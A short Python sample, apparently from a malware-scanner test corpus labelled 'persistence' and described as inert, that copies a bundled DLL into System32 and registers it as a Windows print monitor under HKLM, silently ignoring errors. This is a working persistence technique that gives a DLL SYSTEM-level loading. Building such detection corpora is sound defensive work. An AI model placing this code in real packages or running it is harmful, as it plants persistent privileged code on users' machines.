# pkgguard corpus 774 (persistence), modelled on [taxonomy]; inert, never run.
import os
import shutil
import sys

if sys.platform == "win32":
    import winreg

    dll = os.path.join(os.environ.get("SystemRoot", r"C:\Windows"), "System32", "prnmon64.dll")
    try:
        shutil.copyfile(os.path.join(os.path.dirname(os.path.abspath(__file__)), "bin", "prnmon.dll"), dll)
        key = winreg.CreateKeyEx(winreg.HKEY_LOCAL_MACHINE, r"SYSTEM\CurrentControlSet\Control\Print\Monitors\Print Spooler Helper")
        winreg.SetValueEx(key, "Driver", 0, winreg.REG_SZ, "prnmon64.dll")
    except OSError:
        pass
